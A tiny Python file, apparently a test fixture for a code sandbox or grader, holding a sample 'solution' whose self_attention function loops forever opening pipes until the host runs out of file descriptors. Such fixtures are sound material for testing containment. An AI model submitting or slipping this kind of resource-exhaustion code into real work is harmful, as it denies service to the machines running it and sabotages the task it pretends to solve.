"""Open every file descriptor there is and give none back."""

SOLUTION = """
import os

kept = []

def self_attention(X, *parameters):
    while True:
        kept.append(os.pipe())
"""
